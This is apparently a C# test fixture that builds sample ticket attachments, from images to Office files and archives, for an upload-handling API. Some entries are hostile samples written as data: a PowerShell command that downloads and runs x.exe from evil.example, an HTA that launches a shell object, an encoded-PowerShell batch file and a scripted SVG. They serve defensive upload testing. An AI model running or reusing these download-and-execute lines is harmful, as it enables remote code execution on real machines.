using System.IO.Compression;
using System.Text;

namespace Api.Tests.Portal.Tickets;

/// <summary>
/// Small but real files of each kind a user might attach, built in memory: pictures by their
/// signatures, Office documents and archives as real ZIPs written with <see cref="ZipArchive"/>.
/// </summary>
internal static class AttachmentFiles
{
    public const string WordMain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    public const string WordMacroMain = "application/vnd.ms-word.document.macroEnabled.main+xml";
    public const string ExcelMain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
    public const string ExcelMacroMain = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
    public const string PowerPointMain = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml";

    /// <summary>The file a test names by a short key (theory data cannot carry byte arrays readably).</summary>
    public static byte[] Named(string key) => key switch
    {
        "png" => TicketCalls.Png(),
        "jpeg" => [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, .. "JFIF\0"u8],
        "gif" => [.. "GIF89a"u8, 0x01, 0x00, 0x01, 0x00],
        "webp" => [.. "RIFF"u8, 0x1A, 0x00, 0x00, 0x00, .. "WEBPVP8L"u8],
        "pdf" => Text("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"),
        "log" => Text("2026-01-01 12:00 error: disk full\r\n\tretrying"),
        "csv" => Text("device;status\nNORA-LAPTOP;offline\n"),
        "docx" => Office("word/document.xml", WordMain),
        "xlsx" => Office("xl/workbook.xml", ExcelMain),
        "pptx" => Office("ppt/presentation.xml", PowerPointMain),
        "docm" => Office("word/document.xml", WordMacroMain, withVbaProject: true),
        "xlsm" => Office("xl/workbook.xml", ExcelMacroMain, withVbaProject: true),
        "zip" => Zip(("logs/app.log", "started"), ("logs/screen.txt", "see attached")),
        "jar" => Zip(("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n"), ("Evil.class", "\u00ca\u00fe")),
        "hta" => Text("<html><head><HTA:APPLICATION/></head><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>"),
        "html" => Text("<!doctype html><script>fetch('/api/portal/tickets')</script>"),
        "svg" => Text("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
        "ps1" => Text("Invoke-WebRequest https://evil.example/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe"),
        "bat" => Text("@echo off\r\npowershell -enc SQBFAFgA\r\n"),
        "exe" => [0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00],
        _ => throw new ArgumentOutOfRangeException(nameof(key), key, "no such test file"),
    };

    public static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);

    /// <summary>
    /// A minimal Office Open XML package: <c>[Content_Types].xml</c> naming the main part, the
    /// package relationships and the main part itself; with a VBA project when asked.
    /// </summary>
    public static byte[] Office(string mainPart, string mainContentType, bool withVbaProject = false)
    {
        var vba = withVbaProject
            ? "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
            : "";
        var entries = new List<(string, string)>
        {
            ("[Content_Types].xml",
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>" + vba
                + $"<Override PartName=\"/{mainPart}\" ContentType=\"{mainContentType}\"/></Types>"),
            ("_rels/.rels",
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + $"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"{mainPart}\"/>"
                + "</Relationships>"),
            (mainPart, "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><document/>"),
        };
        if (withVbaProject)
        {
            entries.Add((mainPart[..mainPart.IndexOf('/')] + "/vbaProject.bin", "\u00d0\u00cf\u0011\u00e0"));
        }

        return Zip([.. entries]);
    }

    public static byte[] Zip(params (string Name, string Content)[] entries)
    {
        using var buffer = new MemoryStream();
        using (var archive = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var stream = archive.CreateEntry(name).Open();
                stream.Write(Encoding.UTF8.GetBytes(content));
            }
        }

        return buffer.ToArray();
    }

    /// <summary>A ZIP of that many empty entries: far more than anyone's log bundle.</summary>
    public static byte[] ZipOfEntries(int count)
    {
        using var buffer = new MemoryStream();
        using (var archive = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            for (var i = 0; i < count; i++)
            {
                archive.CreateEntry($"{i}.txt", CompressionLevel.NoCompression);
            }
        }

        return buffer.ToArray();
    }
}
